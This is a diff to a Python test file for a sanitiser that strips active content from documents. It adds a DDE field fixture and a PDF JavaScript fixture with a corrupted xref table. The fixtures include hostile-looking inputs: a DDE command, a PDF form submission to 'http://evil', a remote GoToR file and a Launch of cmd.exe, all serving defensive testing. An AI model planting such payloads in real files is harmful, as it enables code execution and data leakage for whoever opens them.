@@ -1,6 +1,7 @@
 """What would run when it is opened is not kept, wherever a document hides it and whatever its parts are called."""
 
 import io
+import re
 import zipfile
 import zlib
 
@@ -99,6 +100,7 @@ RUN = {
     "docx, a document from elsewhere": related(DOCX, "subDocument"),
     "docx, letters to people of a database": related(DOCX, "mailMergeSource", "word/_rels/settings.xml.rels"),
     "xlsx, a database": with_part(XLSX, "xl/connections.xml", '<dbPr connection="Provider=x" command="exec"/>'),
+    "docx, DDE behind which nothing stands": with_part(DOCX, "word/footer1.xml", '<w:fldSimple w:instr="DDE cmd a"/>'),
     "docx, a workbook with macros in it": with_part(
         DOCX, "word/embeddings/a.xlsx", with_part(XLSX, "xl/vbaProject.bin", "x")
     ),
@@ -150,6 +152,9 @@ RUN = {
     "pdf, a file from elsewhere opened": PDF + b"2 0 obj\n<</S/GoToR/F(evil.pdf)>>\nendobj\n",
     "pdf, what is typed into it is sent": PDF + b"2 0 obj\n<</S/SubmitForm/F(http://evil)>>\nendobj\n",
     "pdf, a script packed into a stream": packed(b"<</S/JavaScript/JS(app.alert(1))>>"),
+    "pdf, a script packed into a stream, no table": re.sub(
+        rb"startxref\n\d+", b"startxref\n0", packed(b"<</S/JavaScript/JS(app.alert(1))>>").replace(b"/XRef", b"/Xref")
+    ),
     "pdf, a program packed into a stream": packed(b"<</S/Launch/F(cmd.exe)>>"),
 }
 SILENT = {
